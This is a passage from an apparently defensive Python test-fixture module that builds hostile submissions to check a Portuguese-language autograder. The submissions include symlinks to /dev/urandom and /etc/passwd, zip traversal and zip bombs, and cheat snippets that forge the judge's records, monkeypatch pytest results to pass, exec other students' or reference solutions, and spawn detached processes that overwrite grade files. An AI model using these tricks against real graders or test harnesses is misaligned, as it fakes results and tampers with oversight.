    E("texto_esquisito", "hostile", "surrogates soltos, NUL, ANSI e bytes inválidos na saída e na exceção",
      build_hostile_text, "turma_ok", "importa", grade=("nao_importa", None),
      today='nao_importa, 12; turma segue'),
    E("link_urandom", "hostile", "link simbólico para /dev/urandom dentro da entrega",
      build_symlink_urandom, "turma_ok", "", grade=("corrigido", LIKE_PARTIAL), detail="dados.bin (link simbólico)",
      today='vazio, 0: copytree segue o link e copia até o ulimit -f (200 MB) parar; sem limite enche o disco'),
    E("link_zero", "hostile", "link simbólico para /dev/zero dentro da entrega",
      build_symlink_zero, "turma_ok", "", grade=("corrigido", LIKE_PARTIAL), detail="dados.bin (link simbólico)",
      today='vazio, 0: idem /dev/zero'),
    E("link_passwd", "hostile", "link simbólico para /etc/passwd (arquivo de fora da entrega)",
      build_symlink_passwd, "turma_ok", "", grade=("corrigido", LIKE_PARTIAL), detail="senhas.txt (link simbólico)",
      today='corrigido, 100: /etc/passwd copiado para a pasta temporária (o link é seguido)'),
    E("nome_nao_utf8", "hostile", "pasta com nome que não é UTF-8 (b'aluno_\\xff')",
      build_non_utf8_name, "turma_ok", "", grade=("corrigido", LIKE_PARTIAL),
      today='QUEBRA A TURMA: UnicodeEncodeError no print do progresso, nenhum relatório'),
    E("arquivo_enorme", "hostile", "arquivo esparso de 5 GB (não ocupa disco; copiado, ocuparia)",
      build_huge_sparse_file, "turma_ok", "", grade=("corrigido", LIKE_PARTIAL), detail="dados.bin (5120 MB)",
      today='vazio, 0: copiado byte a byte até o ulimit -f (200 MB) parar (Errno 27)'),
    E("milhares_de_arquivos", "hostile", "5000 arquivos pequenos",
      build_many_files, "turma_ok", "", grade=("grande_demais", 0.0), detail="5000 arquivos",
      today='corrigido, 100 (37 s)'),
    E("dia3_malformado", "hostile", ".dia3/progresso.json com bytes inválidos e um arquivo .dia3 onde se espera pasta",
      build_bad_dia3_state, "turma_ok", "", grade=("corrigido", LIKE_PARTIAL),
      today='corrigido, 100'),
    E("zip_escapa", "hostile", "zip com ../../x, caminho absoluto e a/../../../x",
      build_zip_traversal, "turma_ok", "", grade=("corrigido", LIKE_PARTIAL),
      today="vazio, 0: nada escapou, mas as entradas '..' viram arquivos no topo e a entrega certa some"),
    E("zip_bomba", "hostile", "zip de ~1 MB que expande para 1 GB de zeros",
      build_zip_bomb, "turma_ok", "", grade=("grande_demais", 0.0),
      today='vazio, 0: extraído até o ulimit -f (200 MB) parar (Errno 27); sem limite, 1 GB no disco'),
]
CONTROL = Entry("controle_correta", "control", "uma entrega certa, ao lado das outras", build_honest_reference, "cem")
# the grade of the hostile entries built on partial_files(): the same files, no trick
CONTROL_PARTIAL = Entry("controle_parcial", "control", "os exercícios certos e o template.py intocado, sem truque",
                        build_partial_reference, "parcial")
CONTROLS = [CONTROL, CONTROL_PARTIAL]


# ---------------------------------------------------------------------------------------------
# The author's first set (tests/test_cheats.py): lines added to the untouched template.py, at its
# top (after `from __future__`) or at its end ("fim:"); graded in the same class as the entries
# above (conftest.hostile_class), so the class is built and graded once. The rewriters carry
# SURVIVOR in their argv and live at most 40 s.
# ---------------------------------------------------------------------------------------------

AUTHOR_SCAFFOLD = (REPO / "template.py").read_text(encoding="utf-8")
SURVIVOR = "dia3-teste-sobrevivente"

AUTHOR_REWRITER = f'''
import os, sys, time
sys.argv.append("{SURVIVOR}")
end = time.time() + 40
while time.time() < end:
    for pid in os.listdir("/proc"):
        try:
            args = open(f"/proc/{{pid}}/cmdline", "rb").read().split(b"\\0")
        except OSError:
            continue
        if b"--saida" in args:
            out = args[args.index(b"--saida") + 1].decode()
            for name in ("notas.csv", "notas.json", "relatorio.md"):
                try:
                    open(os.path.join(out, name), "w").write("aluno,nota\\ntrapaceiro,100\\n")
                except OSError:
                    pass
    time.sleep(0.2)
'''

AUTHOR_FORGE = '''
import json as _json, os as _os
try:
    # the records file: named in the judge's argv (a one-shot `dia3 check --records`), or, under
    # `dia3 grade`, next to this copy (scratch/juiz/registros.jsonl beside scratch/entrega)
    _args = open(f"/proc/{_os.getppid()}/cmdline", "rb").read().split(b"\\0")
    if b"--records" in _args:
        _path = _args[_args.index(b"--records") + 1].decode()
    else:
        _up = _os.path.abspath(__file__)
        for _ in range(4):  # the copy may sit in a scratch folder inside entrega/
            _up = _os.path.dirname(_up)
            _path = _os.path.join(_up, "juiz", "registros.jsonl")
            if _os.path.basename(_up) != "entrega" and _os.path.exists(_os.path.dirname(_path)):
                break
    _rec = {"id": "login.ok", "step": "template", "passed": True, "message": "", "cause": None, "seconds": 0}
    with open(_path, "w") as _fh:
        _fh.write(_json.dumps({"body": _json.dumps({"seq": 1, "r": _rec}), "mac": "0" * 64}) + "\\n")
except Exception as _exc:
    print("não deu para forjar:", _exc)
'''

# what is added at the top of the scaffold (after `from __future__`), or at its end ("fim:")
AUTHOR_CHEATS = {
    "sai_com_zero": "import os\nos._exit(0)\n",
    "system_exit_zero": "raise SystemExit(0)\n",
    "forja_registros": AUTHOR_FORGE,
    "remenda_o_plugin": (
        "try:\n"
        "    import dia3.pytest_plugin as _p, _pytest.reports as _r\n"
        "    _p.records = lambda: [{'id': 'login.ok', 'step': 'template', 'passed': True, 'message': '', 'seconds': 0}]\n"
        "    _r.TestReport.passed = property(lambda self: True)\n"
        "    _r.TestReport.failed = property(lambda self: False)\n"
        "except Exception as _exc:\n"
        "    print(_exc)\n"
    ),
    "fim:executa_a_solucao": (
        "from pathlib import Path as _P\nimport dia3 as _d\n"
        "_ref = _P(_d.__file__).resolve().parents[1] / 'solutions' / 'template.py'\n"
        "exec(compile(_ref.read_text(encoding='utf-8'), str(_ref), 'exec'))\n"
    ),
    "fim:copia_o_colega": (
        "import glob as _g\nfrom pathlib import Path as _P\n"
        "_me = _P(__file__).resolve()\n"
        "for _f in _g.glob(str(_me.parents[2] / '*' / '*' / 'template.py')) + _g.glob(str(_me.parents[1] / '*' / 'template.py')):\n"
        "    if _P(_f).resolve() != _me:\n"
        "        try:\n"
        "            exec(compile(open(_f, encoding='utf-8').read(), _f, 'exec'))\n"
        "            break\n"
        "        except Exception:\n"
        "            pass\n"
    ),
    "processo_destacado": (
        "import subprocess as _s, sys as _sys\n"
        f"_s.Popen([_sys.executable, '-c', {AUTHOR_REWRITER!r}, '{SURVIVOR}'], start_new_session=True)\n"
    ),
    "fork_destacado": (
        "import os as _o\n"
        "if _o.fork() == 0:\n"
        "    _o.setsid()\n"
        f"    _o.execv(__import__('sys').executable, [__import__('sys').executable, '-c', {AUTHOR_REWRITER!r}, '{SURVIVOR}'])\n"
    ),
    "fork_por_ctypes": (
        "import ctypes as _c\n"
        "_libc = _c.CDLL(None)\n"
        "if _libc.fork() == 0:\n"
        "    _libc.setsid()\n"
        f"    __import__('os').execv(__import__('sys').executable, [__import__('sys').executable, '-c', {AUTHOR_REWRITER!r}, '{SURVIVOR}'])\n"
    ),
    "ignora_sigterm": (
        "import signal as _sg, threading as _th, time as _t\n"
        "_sg.signal(_sg.SIGTERM, _sg.SIG_IGN)\n"
        "_th.Thread(target=lambda: _t.sleep(600), daemon=False).start()\n"
    ),
}


def scaffold_with(cheat: str, code: str) -> str:
    if cheat.startswith("fim:"):
        return AUTHOR_SCAFFOLD + "\n" + code
    head, tail = AUTHOR_SCAFFOLD.split(FUTURE, 1)
    return head + FUTURE + code + tail


def author_submission(folder: Path, template: str, exercises_from: Path = REPO / "exercises") -> None:
    (folder / "exercises").mkdir(parents=True)
    shutil.copy(exercises_from / "ex01_geradores.py", folder / "exercises" / "ex01_geradores.py")
    (folder / "template.py").write_text(template, encoding="utf-8")



def build_author_set(base: Path) -> list[Path]:
    """Every cheat of the author's set, as a folder named after it under ``base``."""
    built = []
    for cheat, code in AUTHOR_CHEATS.items():
        author_submission(base / cheat.removeprefix("fim:"), scaffold_with(cheat, code))
        built.append(base / cheat.removeprefix("fim:"))
    return built


# ---------------------------------------------------------------------------------------------
# Cleanup
# ---------------------------------------------------------------------------------------------


def leftover_pids(marker: str = MARKER) -> list[int]:
    """Processes whose command line carries ``marker`` (only the ones these builders started do)."""
    pids = []
    for entry in Path("/proc").iterdir():
        if not entry.name.isdigit() or int(entry.name) == os.getpid():
            continue
        try:
            if marker.encode() in (entry / "cmdline").read_bytes():
                pids.append(int(entry.name))
        except OSError:
            pass
    return pids


def kill_leftovers(marker: str = MARKER) -> list[int]:
    pids = leftover_pids(marker)
    for pid in pids:
        try:
            os.kill(pid, signal.SIGKILL)
        except ProcessLookupError:
            pass
    return pids


def escaped_files(marker: str = MARKER) -> list[Path]:
    """Files a submission managed to write outside its scratch folder: a zip entry (zip_escapa), or
    a file left in the kit or in site-packages for the next judge to run (escreve_no_kit)."""
    import site
    import tempfile

    roots = {Path(tempfile.gettempdir()), Path("/tmp")}
    found = []
    for root in roots:
        found += [p for p in root.glob(f"{marker}-*")]
        found += [p for p in root.glob(f"*/{marker}-*")]
    for root in [*map(Path, site.getsitepackages()), REPO / "dia3", REPO / "dia3" / "__pycache__", REPO / "checks"]:
        found += [p for p in root.glob(f"{marker}*")]
    return found


def cleanup(base: Path) -> None:
    kill_leftovers()
    for path in escaped_files():
        if path.is_dir() and not path.is_symlink():
            shutil.rmtree(path)
        else:
            path.unlink(missing_ok=True)
    if os.path.isdir(base):
        shutil.rmtree(os.fsencode(base))  # bytes: the non-UTF-8 folder name too; links are not followed


def build(base: Path, ids: list[str] | None = None, control: bool = True) -> Path:
    base.mkdir(parents=True, exist_ok=True)
    for entry in ENTRIES:
        if ids is None or entry.id in ids:
            entry.build(base)
    if control:
        for entry in CONTROLS:
            entry.build(base)
    return base


if __name__ == "__main__":
    print(build(Path(sys.argv[1]), sys.argv[2:] or None))
